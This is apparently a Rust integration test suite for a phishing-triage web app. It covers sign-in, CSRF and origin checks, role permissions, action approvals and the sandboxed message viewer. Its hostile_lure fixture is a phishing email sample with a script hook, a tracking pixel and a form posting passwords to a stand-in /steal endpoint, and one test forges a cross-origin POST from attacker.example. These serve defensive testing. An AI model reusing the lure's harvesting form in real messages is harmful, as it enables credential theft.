//! The web interface over HTTP on SQLite and PostgreSQL: sign-in and its
//! throttling, sessions, CSRF and origin checks, what each role may see and
//! do, approving, rejecting and undoing actions, verdict corrections, the
//! message frame's policy and the security headers of every page.

mod common;

use std::collections::HashMap;

use common::{ADMIN_TOKEN, TestService, service_test};
use phishloop_model::Verdict;
use phishloop_response::{ActionKind, Mode, Playbook, ResponseConfig, Selector, Step};
use phishloop_store::{ActionStatus, EventSubject, UserRole};
use reqwest::header::{HeaderMap, LOCATION, SET_COOKIE};
use uuid::Uuid;

const PASSWORD: &str = "correct horse battery staple";

/// A lure whose HTML tries to load remote images, run scripts and submit
/// a form, with a link to a lookalike domain.
fn hostile_lure(tag: &str) -> Vec<u8> {
    format!(
        "From: \"IT Service Desk\" <it-desk@0utlook-account-verify.example>\r\n\
         To: alice@corp-example.com, dan@corp-example.com\r\n\
         Subject: Confirm your password today {tag}\r\n\
         Message-ID: <web-{tag}@0utlook-account-verify.example>\r\n\
         Date: Tue, 7 May 2024 08:01:00 +0000\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n\
         <html><body onload=\"steal()\"><p>Your mailbox password expires today. Confirm your password within 24 hours.</p>\r\n\
         <img src=\"http://tracker.example/pixel.gif?u=alice\" alt=\"logo\">\r\n\
         <script>document.title = 'ran';</script>\r\n\
         <form action=\"http://0utlook-account-verify.example/steal\" method=\"post\"><input name=\"password\"><button>Send</button></form>\r\n\
         <p><a href=\"http://0utlook-account-verify.example/signin/confirm.php?id={tag}\">Confirm password</a></p></body></html>\r\n"
    )
    .into_bytes()
}

fn step(action: ActionKind, target: Selector, mode: Mode, connector: &str) -> Step {
    Step { action, target, mode, connector: connector.to_owned() }
}

/// A playbook whose malicious decisions wait for approval: a domain block
/// (an analyst's action) and a password reset of the reporters (an
/// identity action).
fn approval_config() -> ResponseConfig {
    ResponseConfig {
        internal_domains: vec!["corp-example.com".to_owned()],
        playbooks: vec![Playbook {
            name: "approve-everything".to_owned(),
            verdicts: vec![Verdict::Malicious],
            categories: Vec::new(),
            min_confidence: 0.0,
            min_reporters: 0,
            needs_review: None,
            steps: vec![
                step(ActionKind::BlockDomain, Selector::UrlDomains, Mode::Approve, "blocklist"),
                step(ActionKind::ResetPassword, Selector::Reporters, Mode::Approve, "log"),
            ],
        }],
        default_playbooks: false,
        ..ResponseConfig::default()
    }
}

/// An HTTP client that keeps cookies and does not follow redirects, like a
/// browser tab whose steps the test checks one by one.
struct Tab {
    client: reqwest::Client,
    base: String,
    cookies: HashMap<String, String>,
}

struct Page {
    status: u16,
    headers: HeaderMap,
    body: String,
}

impl Page {
    fn location(&self) -> &str {
        self.headers.get(LOCATION).and_then(|value| value.to_str().ok()).unwrap_or("")
    }

    /// The first CSRF token of a form on the page.
    fn csrf(&self) -> String {
        let marker = "name=\"csrf\" value=\"";
        let start = self.body.find(marker).map(|at| at + marker.len()).expect("a form with a CSRF token");
        self.body[start..].split('"').next().expect("token").to_owned()
    }
}

fn form_encode(fields: &[(&str, &str)]) -> String {
    let encode = |text: &str| {
        text.bytes()
            .map(|byte| match byte {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
                b' ' => "+".to_owned(),
                other => format!("%{other:02X}"),
            })
            .collect::<String>()
    };
    fields.iter().map(|(key, value)| format!("{}={}", encode(key), encode(value))).collect::<Vec<_>>().join("&")
}

impl Tab {
    fn new(service: &TestService) -> Self {
        let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
        Self { client, base: service.base.clone(), cookies: HashMap::new() }
    }

    fn cookie_header(&self) -> String {
        self.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("; ")
    }

    async fn keep_cookies(&mut self, response: reqwest::Response) -> Page {
        let headers = response.headers().clone();
        for value in headers.get_all(SET_COOKIE) {
            let text = value.to_str().expect("cookie text");
            let (pair, attributes) = text.split_once(';').unwrap_or((text, ""));
            let (name, value) = pair.split_once('=').expect("name=value");
            if attributes.contains("Max-Age=0") {
                self.cookies.remove(name);
            } else {
                self.cookies.insert(name.to_owned(), value.to_owned());
            }
        }
        let status = response.status().as_u16();
        Page { status, headers, body: response.text().await.expect("body") }
    }

    async fn get(&mut self, path: &str) -> Page {
        let response = self
            .client
            .get(format!("{}{path}", self.base))
            .header("cookie", self.cookie_header())
            .send()
            .await
            .expect("GET");
        self.keep_cookies(response).await
    }

    async fn post_from(&mut self, path: &str, fields: &[(&str, &str)], origin: &str) -> Page {
        let response = self
            .client
            .post(format!("{}{path}", self.base))
            .header("cookie", self.cookie_header())
            .header("origin", origin)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(form_encode(fields))
            .send()
            .await
            .expect("POST");
        self.keep_cookies(response).await
    }

    async fn post(&mut self, path: &str, fields: &[(&str, &str)]) -> Page {
        let origin = self.base.clone();
        self.post_from(path, fields, &origin).await
    }

    async fn sign_in(&mut self, name: &str, password: &str) -> Page {
        let form = self.get("/login").await;
        assert_eq!(form.status, 200, "{}", form.body);
        let csrf = form.csrf();
        self.post("/login", &[("name", name), ("password", password), ("csrf", &csrf), ("next", "/queue")]).await
    }

    /// Signs in and returns the CSRF token of the session.
    async fn signed_in(service: &TestService, name: &str) -> (Self, String) {
        let mut tab = Self::new(service);
        let page = tab.sign_in(name, PASSWORD).await;
        assert_eq!(page.status, 303, "{}", page.body);
        let start = tab.get("/dashboard").await;
        assert_eq!(start.status, 200, "{}", start.body);
        let csrf = start.csrf();
        (tab, csrf)
    }
}

async fn add_user(service: &TestService, name: &str, role: UserRole) {
    let hash = phishloop_server::hash_password(PASSWORD).expect("hash");
    service.store.create_user(name, role, &hash).await.expect("create user");
}

/// Submits the hostile lure, waits for its job and returns the case id and
/// the ids of its domain block and password reset, both awaiting approval.
async fn lure_case(service: &TestService, tag: &str) -> (Uuid, Uuid, Uuid) {
    let report_id = service.submit_ok(&hostile_lure(tag), Some("alice@corp-example.com")).await;
    let report = service.wait_done(&report_id).await;
    let case_id: Uuid = report["case_id"].as_str().expect("case id").parse().expect("uuid");
    let actions = service.store.actions_for_case(case_id).await.expect("actions");
    let id_of = |kind: &str| {
        actions
            .iter()
            .find(|action| action.kind == kind && action.status == ActionStatus::AwaitingApproval)
            .unwrap_or_else(|| panic!("a {kind} action awaiting approval in {actions:?}"))
            .id
    };
    (case_id, id_of("block_domain"), id_of("reset_password"))
}

service_test!(pages_carry_security_headers, |env| {
    let service = env.start().await;
    let mut tab = Tab::new(&service);

    let login = tab.get("/login").await;
    let policy = login.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or("");
    let form_cookie = login.headers.get(SET_COOKIE).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();

    assert_eq!(login.status, 200);
    assert!(policy.contains("default-src 'none'"), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    assert!(policy.contains("script-src 'self'"), "{policy}");
    assert_eq!(login.headers.get("x-frame-options").and_then(|v| v.to_str().ok()), Some("DENY"));
    assert_eq!(login.headers.get("x-content-type-options").and_then(|v| v.to_str().ok()), Some("nosniff"));
    assert_eq!(login.headers.get("referrer-policy").and_then(|v| v.to_str().ok()), Some("no-referrer"));
    assert!(form_cookie.contains("HttpOnly"), "{form_cookie}");
    assert!(form_cookie.contains("SameSite=Strict"), "{form_cookie}");
    assert!(!form_cookie.contains("Secure"), "loopback listener: {form_cookie}");
    service.stop().await;
});

service_test!(pages_need_sign_in, |env| {
    let service = env.start().await;
    let mut tab = Tab::new(&service);

    for path in ["/", "/queue", "/dashboard", "/coaching", &format!("/cases/{}", Uuid::now_v7())] {
        let page = tab.get(path).await;
        assert_eq!(page.status, 303, "{path}");
        assert!(page.location().starts_with("/login?next="), "{path}: {}", page.location());
    }
    let post = tab.post(&format!("/actions/{}/approve", Uuid::now_v7()), &[("csrf", "x")]).await;
    assert_eq!(post.status, 303);
    assert_eq!(post.location(), "/login?next=/");
    service.stop().await;
});

service_test!(sign_in_starts_session, |env| {
    let service = env.start().await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let mut tab = Tab::new(&service);

    let signed = tab.sign_in("Alice", PASSWORD).await;
    let session_cookie = signed
        .headers
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|value| value.to_str().ok())
        .find(|value| value.starts_with("phishloop_session="))
        .unwrap_or("")
        .to_owned();
    let queue = tab.get("/queue").await;

    assert_eq!(signed.status, 303, "{}", signed.body);
    assert_eq!(signed.location(), "/queue");
    assert!(session_cookie.contains("HttpOnly"), "{session_cookie}");
    assert!(session_cookie.contains("SameSite=Strict"), "{session_cookie}");
    assert_eq!(queue.status, 200, "{}", queue.body);
    assert!(queue.body.contains("alice · analyst"), "{}", queue.body);
    let user = service.store.find_user("alice").await.expect("find").expect("user");
    assert!(user.last_login_at.is_some());
    service.stop().await;
});

service_test!(wrong_password_rejected_then_locked, |env| {
    let service = env.start().await;
    add_user(&service, "bob", UserRole::Analyst).await;
    let mut tab = Tab::new(&service);

    for attempt in 1..=5 {
        let page = tab.sign_in("bob", "not the password at all").await;
        assert_eq!(page.status, 401, "attempt {attempt}: {}", page.body);
        assert!(page.body.contains("The name or the password is wrong"), "{}", page.body);
    }
    let locked = tab.sign_in("bob", PASSWORD).await;
    let unknown = tab.sign_in("nobody", PASSWORD).await;

    // The lock must not tell a guesser that "bob" exists and "nobody" does not.
    let error = "The name or the password is wrong, or the account is locked for a while";
    assert_eq!(locked.status, 401, "{}", locked.body);
    assert!(locked.body.contains(error), "{}", locked.body);
    assert_eq!(unknown.status, 401, "{}", unknown.body);
    assert!(unknown.body.contains(error), "{}", unknown.body);
    assert!(!tab.cookies.contains_key("phishloop_session"));
    service.stop().await;
});

service_test!(many_failures_from_one_address_throttled, |env| {
    let service = env
        .start_with(|config| {
            config.web.address_attempts = 3;
        })
        .await;
    for name in ["amy", "bob", "cyd", "dee"] {
        add_user(&service, name, UserRole::Analyst).await;
    }
    let mut tab = Tab::new(&service);

    let failures: Vec<u16> =
        sign_in_statuses(&mut tab, &[("amy", "wrong one"), ("bob", "wrong two"), ("cyd", "wrong three")]).await;
    let throttled = tab.sign_in("dee", PASSWORD).await;

    assert_eq!(failures, vec![401, 401, 401], "one failure per name locks no account");
    assert_eq!(throttled.status, 429, "{}", throttled.body);
    assert!(throttled.body.contains("Too many failed sign-ins came from your network address"), "{}", throttled.body);
    assert!(!tab.cookies.contains_key("phishloop_session"));
    service.stop().await;
});

/// Signs in with each name and password in turn and returns the statuses.
async fn sign_in_statuses(tab: &mut Tab, attempts: &[(&str, &str)]) -> Vec<u16> {
    let mut statuses = Vec::new();
    for (name, password) in attempts {
        statuses.push(tab.sign_in(name, password).await.status);
    }
    statuses
}

service_test!(own_password_changed_on_account_page, |env| {
    let service = env.start().await;
    add_user(&service, "eve", UserRole::Auditor).await;
    let (mut tab, csrf) = Tab::signed_in(&service, "eve").await;
    let new_password = "a brand new passphrase here";
    let page = tab.get("/account").await;
    let wrong = tab
        .post(
            "/account/password",
            &[("csrf", &csrf), ("current", "not it"), ("new", new_password), ("repeat", new_password)],
        )
        .await;
    let differ = tab
        .post(
            "/account/password",
            &[("csrf", &csrf), ("current", PASSWORD), ("new", new_password), ("repeat", "other")],
        )
        .await;
    let short = tab
        .post("/account/password", &[("csrf", &csrf), ("current", PASSWORD), ("new", "short"), ("repeat", "short")])
        .await;
    let changed = tab
        .post(
            "/account/password",
            &[("csrf", &csrf), ("current", PASSWORD), ("new", new_password), ("repeat", new_password)],
        )
        .await;
    let after = tab.get("/queue").await;
    let old = Tab::new(&service).sign_in("eve", PASSWORD).await;
    let new = Tab::new(&service).sign_in("eve", new_password).await;

    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("action=\"/account/password\""), "{}", page.body);
    assert_eq!(wrong.status, 400);
    assert!(wrong.body.contains("The current password is wrong."), "{}", wrong.body);
    assert_eq!(differ.status, 400);
    assert!(differ.body.contains("The two new passwords differ."), "{}", differ.body);
    assert_eq!(short.status, 400);
    assert!(short.body.contains("use at least 12"), "{}", short.body);
    assert_eq!(changed.status, 200, "{}", changed.body);
    assert!(changed.body.contains("Your password was changed"), "{}", changed.body);
    assert_ne!(after.status, 200, "the old session ended");
    assert_eq!(old.status, 401, "the old password no longer works");
    assert_eq!(new.status, 303, "{}", new.body);
    service.stop().await;
});

service_test!(sign_in_needs_form_cookie, |env| {
    let service = env.start().await;
    add_user(&service, "carol", UserRole::Analyst).await;
    let mut tab = Tab::new(&service);
    let form = tab.get("/login").await;
    let csrf = form.csrf();
    tab.cookies.clear();

    let page = tab.post("/login", &[("name", "carol"), ("password", PASSWORD), ("csrf", &csrf)]).await;

    assert_eq!(page.status, 403, "{}", page.body);
    assert!(page.body.contains("The sign-in form expired"), "{}", page.body);
    assert!(!tab.cookies.contains_key("phishloop_session"));
    service.stop().await;
});

service_test!(disabled_user_cannot_sign_in, |env| {
    let service = env.start().await;
    add_user(&service, "dana", UserRole::Analyst).await;
    service.store.set_user_disabled("dana", true).await.expect("disable");
    let mut tab = Tab::new(&service);

    let page = tab.sign_in("dana", PASSWORD).await;

    assert_eq!(page.status, 401, "{}", page.body);
    service.stop().await;
});

service_test!(logout_ends_session, |env| {
    let service = env.start().await;
    add_user(&service, "erin", UserRole::Auditor).await;
    let (mut tab, csrf) = Tab::signed_in(&service, "erin").await;
    let session = tab.cookies.get("phishloop_session").cloned().expect("session cookie");

    let out = tab.post("/logout", &[("csrf", &csrf)]).await;
    tab.cookies.insert("phishloop_session".to_owned(), session);
    let after = tab.get("/queue").await;

    assert_eq!(out.status, 303, "{}", out.body);
    assert_eq!(out.location(), "/login");
    assert_eq!(after.status, 303, "the old cookie must not work after sign-out");
    service.stop().await;
});

service_test!(analyst_approves_block_action, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (case_id, block, _) = lure_case(&service, "approve").await;
    let (mut tab, csrf) = Tab::signed_in(&service, "alice").await;

    let case_page = tab.get(&format!("/cases/{case_id}")).await;
    let approved = tab.post(&format!("/actions/{block}/approve"), &[("csrf", &csrf)]).await;
    let action = service.store.get_action(block).await.expect("read").expect("action");
    let events = service.store.events_for(EventSubject::Case(case_id)).await.expect("events");

    assert_eq!(case_page.status, 200, "{}", case_page.body);
    assert!(case_page.body.contains(&format!("action=\"/actions/{block}/approve\"")), "{}", case_page.body);
    assert_eq!(approved.status, 303, "{}", approved.body);
    assert_eq!(approved.location(), format!("/cases/{case_id}?done=approved#actions"));
    assert_eq!(action.status, ActionStatus::Succeeded);
    assert_eq!(action.approved_by.as_deref(), Some("alice"));
    let approval = events.iter().find(|event| event.kind == "action_approved").expect("action_approved event");
    assert_eq!(approval.payload["approved_by"], "alice");
    service.stop().await;
});

service_test!(roles_without_permission_get_403, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "audra", UserRole::Auditor).await;
    add_user(&service, "ivan", UserRole::Identity).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (_, block, reset) = lure_case(&service, "roles").await;

    let (mut auditor, auditor_csrf) = Tab::signed_in(&service, "audra").await;
    let by_auditor = auditor.post(&format!("/actions/{block}/approve"), &[("csrf", &auditor_csrf)]).await;
    let (mut identity, identity_csrf) = Tab::signed_in(&service, "ivan").await;
    let block_by_identity = identity.post(&format!("/actions/{block}/approve"), &[("csrf", &identity_csrf)]).await;
    let (mut analyst, analyst_csrf) = Tab::signed_in(&service, "alice").await;
    let reset_by_analyst = analyst.post(&format!("/actions/{reset}/approve"), &[("csrf", &analyst_csrf)]).await;
    let reset_by_identity = identity.post(&format!("/actions/{reset}/approve"), &[("csrf", &identity_csrf)]).await;

    assert_eq!(by_auditor.status, 403, "{}", by_auditor.body);
    assert!(by_auditor.body.contains("Your role, auditor, may not"), "{}", by_auditor.body);
    assert_eq!(block_by_identity.status, 403, "{}", block_by_identity.body);
    assert_eq!(reset_by_analyst.status, 403, "{}", reset_by_analyst.body);
    assert_eq!(reset_by_identity.status, 303, "{}", reset_by_identity.body);
    let block_action = service.store.get_action(block).await.expect("read").expect("block");
    let reset_action = service.store.get_action(reset).await.expect("read").expect("reset");
    assert_eq!(block_action.status, ActionStatus::AwaitingApproval);
    assert_eq!(reset_action.status, ActionStatus::Succeeded);
    assert_eq!(reset_action.approved_by.as_deref(), Some("ivan"));
    service.stop().await;
});

service_test!(awareness_reads_dashboard_only, |env| {
    let service = env.start().await;
    add_user(&service, "wendy", UserRole::Awareness).await;
    let (mut tab, _) = Tab::signed_in(&service, "wendy").await;

    let home = tab.get("/").await;
    let queue = tab.get("/queue").await;
    let dashboard = tab.get("/dashboard").await;
    let coaching = tab.get("/coaching").await;

    assert_eq!(home.location(), "/dashboard");
    assert_eq!(queue.status, 403, "{}", queue.body);
    assert_eq!(dashboard.status, 200);
    assert_eq!(coaching.status, 200);
    assert!(!dashboard.body.contains("href=\"/queue\""), "the navigation hides what the role cannot open");
    service.stop().await;
});

service_test!(form_without_valid_csrf_rejected, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (_, block, _) = lure_case(&service, "csrf").await;
    let (mut tab, csrf) = Tab::signed_in(&service, "alice").await;

    let wrong_token = tab.post(&format!("/actions/{block}/approve"), &[("csrf", "0000")]).await;
    let no_token = tab.post(&format!("/actions/{block}/approve"), &[]).await;
    let foreign =
        tab.post_from(&format!("/actions/{block}/approve"), &[("csrf", &csrf)], "http://attacker.example").await;
    let action = service.store.get_action(block).await.expect("read").expect("action");

    assert_eq!(wrong_token.status, 403, "{}", wrong_token.body);
    assert!(wrong_token.body.contains("Form expired"), "{}", wrong_token.body);
    assert_eq!(no_token.status, 400, "{}", no_token.body);
    assert!(no_token.body.contains("The form could not be read"), "an HTML error page: {}", no_token.body);
    assert!(no_token.body.contains("csrf"), "the reason names the missing field: {}", no_token.body);
    assert_eq!(foreign.status, 403, "{}", foreign.body);
    assert_eq!(action.status, ActionStatus::AwaitingApproval);
    service.stop().await;
});

service_test!(post_without_form_body_gets_error_page, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (_, block, _) = lure_case(&service, "no-body").await;
    let (tab, _) = Tab::signed_in(&service, "alice").await;

    let response = tab
        .client
        .post(format!("{}/actions/{block}/approve", tab.base))
        .header("cookie", tab.cookie_header())
        .header("origin", tab.base.as_str())
        .send()
        .await
        .expect("POST");

    assert_eq!(response.status(), 400);
    let content_type = response.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    assert!(content_type.starts_with("text/html"), "{content_type}");
    let body = response.text().await.expect("body");
    assert!(body.contains("The form could not be read"), "{body}");
    service.stop().await;
});

service_test!(rejection_and_undo_recorded, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    add_user(&service, "root", UserRole::Admin).await;
    let (case_id, block, reset) = lure_case(&service, "reject").await;
    let (mut tab, csrf) = Tab::signed_in(&service, "alice").await;

    let no_reason = tab.post(&format!("/actions/{block}/reject"), &[("csrf", &csrf), ("reason", " ")]).await;
    let approved = tab.post(&format!("/actions/{block}/approve"), &[("csrf", &csrf)]).await;
    let undone = tab.post(&format!("/actions/{block}/undo"), &[("csrf", &csrf)]).await;
    let again = tab.post(&format!("/actions/{block}/undo"), &[("csrf", &csrf)]).await;
    let (mut admin, admin_csrf) = Tab::signed_in(&service, "root").await;
    let rejected = admin
        .post(&format!("/actions/{reset}/reject"), &[("csrf", &admin_csrf), ("reason", "the reporter did not click")])
        .await;

    assert_eq!(no_reason.status, 400, "{}", no_reason.body);
    assert_eq!(approved.status, 303, "{}", approved.body);
    assert_eq!(undone.status, 303, "{}", undone.body);
    assert_eq!(again.status, 409, "{}", again.body);
    assert_eq!(rejected.status, 303, "{}", rejected.body);
    let block_action = service.store.get_action(block).await.expect("read").expect("block");
    let reset_action = service.store.get_action(reset).await.expect("read").expect("reset");
    assert_eq!(block_action.status, ActionStatus::Undone);
    assert_eq!(reset_action.status, ActionStatus::Rejected);
    let events = service.store.events_for(EventSubject::Case(case_id)).await.expect("events");
    let rejection = events.iter().find(|event| event.kind == "action_rejected").expect("action_rejected");
    assert_eq!(rejection.payload["rejected_by"], "root");
    assert_eq!(rejection.payload["reason"], "the reporter did not click");
    assert!(events.iter().any(|event| event.kind == "action_undone" && event.payload["requested_by"] == "alice"));
    service.stop().await;
});

/// The fields of a verdict change to malicious credential harvesting.
fn malicious_form<'a>(csrf: &'a str, reason: &'a str) -> [(&'a str, &'a str); 4] {
    [("csrf", csrf), ("verdict", "malicious"), ("category", "credential_harvesting"), ("reason", reason)]
}

service_test!(verdict_change_recorded_and_replanned, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    add_user(&service, "audra", UserRole::Auditor).await;
    let message = b"From: newsletter@cycling-club.example\r\nTo: alice@corp-example.com\r\n\
Subject: Club news\r\nMessage-ID: <news-1@cycling-club.example>\r\n\r\nThe spring ride starts at nine.\r\n";
    let report_id = service.submit_ok(message, Some("alice@corp-example.com")).await;
    let report = service.wait_done(&report_id).await;
    let case_id: Uuid = report["case_id"].as_str().expect("case id").parse().expect("uuid");
    let (mut auditor, auditor_csrf) = Tab::signed_in(&service, "audra").await;
    let (mut tab, csrf) = Tab::signed_in(&service, "alice").await;
    let reason = "the ride link asks for the company password";

    let by_auditor = auditor.post(&format!("/cases/{case_id}/verdict"), &malicious_form(&auditor_csrf, reason)).await;
    let bad_fields = [("csrf", csrf.as_str()), ("verdict", "evil"), ("category", "none"), ("reason", "x")];
    let bad = tab.post(&format!("/cases/{case_id}/verdict"), &bad_fields).await;
    let changed = tab.post(&format!("/cases/{case_id}/verdict"), &malicious_form(&csrf, reason)).await;
    let page = tab.get(&format!("/cases/{case_id}")).await;

    assert_eq!(by_auditor.status, 403, "{}", by_auditor.body);
    assert_eq!(bad.status, 400, "{}", bad.body);
    assert!(bad.body.contains("invalid verdict &quot;evil&quot;"), "{}", bad.body);
    assert_eq!(changed.status, 303, "{}", changed.body);
    assert_eq!(changed.location(), format!("/cases/{case_id}?done=verdict#decision"));
    let corrections = service.store.corrections_for_case(case_id).await.expect("corrections");
    assert_eq!(corrections.len(), 1);
    assert_eq!(corrections[0].corrected_by, "alice");
    assert_eq!(corrections[0].verdict, "malicious");
    let stored = service.store.get_report(report_id.parse().expect("uuid")).await.expect("read").expect("report");
    assert_eq!(stored.decision.as_ref().expect("decision")["verdict"], "malicious");
    let events = service.store.events_for(EventSubject::Case(case_id)).await.expect("events");
    let event = events.iter().find(|event| event.kind == "verdict_corrected").expect("verdict_corrected");
    assert_eq!(event.payload["reason"], reason);
    let actions = service.store.actions_for_case(case_id).await.expect("actions");
    assert!(actions.iter().any(|action| action.kind == "reset_password"), "replanned for malicious: {actions:?}");
    assert!(page.body.contains(reason), "{}", page.body);
    assert!(service.store.verify_chain().await.expect("verify").is_intact());
    service.stop().await;
});

service_test!(message_frame_is_inert, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (case_id, _, _) = lure_case(&service, "frame").await;
    let (mut tab, _) = Tab::signed_in(&service, "alice").await;

    let case_page = tab.get(&format!("/cases/{case_id}")).await;
    let frame = tab.get(&format!("/cases/{case_id}/message")).await;
    let policy = frame.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();

    assert_eq!(frame.status, 200, "{}", frame.body);
    assert!(policy.contains("default-src 'none'"), "{policy}");
    assert!(policy.contains("img-src data:"), "{policy}");
    assert!(policy.contains("form-action 'none'"), "{policy}");
    assert!(policy.ends_with("sandbox"), "{policy}");
    assert!(!policy.contains("script-src"), "{policy}");
    assert!(!frame.body.contains("<script"), "{}", frame.body);
    assert!(!frame.body.contains("<form"), "{}", frame.body);
    assert!(!frame.body.contains("onload"), "{}", frame.body);
    assert!(!frame.body.contains("tracker.example"), "{}", frame.body);
    assert!(!frame.body.contains("href="), "{}", frame.body);
    assert!(frame.body.contains("[image not loaded: logo]"), "{}", frame.body);
    assert!(
        frame.body.contains("hxxp://0utlook-account-verify[.]example/signin/confirm[.]php?id=frame"),
        "{}",
        frame.body
    );
    assert!(case_page.body.contains("<iframe class=\"message-frame\""), "{}", case_page.body);
    assert!(case_page.body.contains(" sandbox "), "{}", case_page.body);
    assert!(!case_page.body.contains("<script>document"), "{}", case_page.body);
    service.stop().await;
});

service_test!(queue_and_dashboard_render, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (case_id, _, _) = lure_case(&service, "queue").await;
    let (mut tab, _) = Tab::signed_in(&service, "alice").await;

    let queue = tab.get("/queue").await;
    let filtered = tab.get("/queue?verdict=benign").await;
    let bad_filter = tab.get("/queue?since=yesterday").await;
    let dashboard = tab.get("/dashboard?days=7").await;
    let bad_period = tab.get("/dashboard?days=8").await;
    let coaching = tab.get("/coaching?kind=outcome").await;

    assert_eq!(queue.status, 200, "{}", queue.body);
    assert!(queue.body.contains(&format!("href=\"/cases/{case_id}\"")), "{}", queue.body);
    assert!(queue.body.contains("to approve"), "{}", queue.body);
    assert!(!filtered.body.contains(&format!("href=\"/cases/{case_id}\"")), "{}", filtered.body);
    assert_eq!(bad_filter.status, 400, "{}", bad_filter.body);
    assert_eq!(dashboard.status, 200, "{}", dashboard.body);
    assert_eq!(dashboard.body.matches("<svg class=\"chart\"").count(), 6, "{}", dashboard.body);
    assert!(dashboard.body.contains("class=\"series-malicious\""), "{}", dashboard.body);
    assert_eq!(bad_period.status, 400);
    assert_eq!(coaching.status, 200, "{}", coaching.body);
    service.stop().await;
});

service_test!(campaign_page_lists_cases, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "alice", UserRole::Analyst).await;
    let (case_id, _, _) = lure_case(&service, "campaign").await;
    let campaign_id = service.store.campaign_of_case(case_id).await.expect("read").expect("a campaign");
    let (mut tab, _) = Tab::signed_in(&service, "alice").await;

    let page = tab.get(&format!("/campaigns/{campaign_id}")).await;
    let unknown = tab.get(&format!("/campaigns/{}", Uuid::now_v7())).await;
    let bad_id = tab.get("/campaigns/not-a-uuid").await;

    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains(&format!("href=\"/cases/{case_id}\"")), "{}", page.body);
    assert!(page.body.contains("alice@corp-example.com"), "{}", page.body);
    assert!(page.body.contains("dan@corp-example[.]com"), "recipients: {}", page.body);
    assert!(page.body.contains("0utlook-account-verify[.]example"), "shared indicators: {}", page.body);
    assert!(page.body.contains("block domain"), "actions: {}", page.body);
    assert_eq!(unknown.status, 404, "{}", unknown.body);
    assert_eq!(bad_id.status, 400, "{}", bad_id.body);
    service.stop().await;
});

service_test!(case_page_shows_who_clicked, |env| {
    let service = env.start_responding(approval_config()).await;
    add_user(&service, "ivy", UserRole::Identity).await;
    let (case_id, _, _) = lure_case(&service, "clicks").await;
    let now = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let log = format!(
        "time,user,client_ip,method,url,user_agent\n\
         {now},dan@corp-example.com,10.0.0.8,GET,http://0utlook-account-verify.example/signin/confirm.php?id=clicks,Mozilla/5.0\n\
         {now},dan@corp-example.com,10.0.0.8,POST,http://0utlook-account-verify.example/steal,Mozilla/5.0\n\
         {now},alice@corp-example.com,10.0.0.9,GET,http://0utlook-account-verify.example/signin/confirm.php,Slackbot-LinkExpanding 1.0\n"
    );
    let imported = service
        .client
        .post(service.url("/api/v1/clicks"))
        .query(&[("format", "proxy_csv"), ("case", &case_id.to_string())])
        .bearer_auth(ADMIN_TOKEN)
        .body(log)
        .send()
        .await
        .expect("POST /api/v1/clicks");
    assert_eq!(imported.status(), 200);
    let (mut tab, _) = Tab::signed_in(&service, "ivy").await;

    let page = tab.get(&format!("/cases/{case_id}")).await;

    assert_eq!(page.status, 200, "{}", page.body);
    let section = page.body.split("id=\"identity\"").nth(1).expect("the identity section");
    let section = section.split("id=\"timeline\"").next().unwrap_or_default();
    assert!(section.contains("<strong>1</strong> submitted credentials"), "{section}");
    assert!(section.contains("data-verdict=\"submitted_credentials\""), "{section}");
    assert!(section.contains("dan@corp-example.com"), "{section}");
    assert!(!section.contains("alice@corp-example.com"), "a link preview is no click: {section}");
    assert!(section.contains("1 excluded as scanner user agent"), "{section}");
    assert!(section.contains("0utlook-account-verify[.]example&#x2f;steal"), "evidence is defanged: {section}");
    assert!(section.contains("log line 3"), "evidence keeps its line number: {section}");
    assert!(page.body.contains("Your role does not read the messages to people."), "{}", page.body);
    assert!(!page.body.contains("class=\"outbox\""), "the identity role reads no messages: {}", page.body);
    service.stop().await;
});
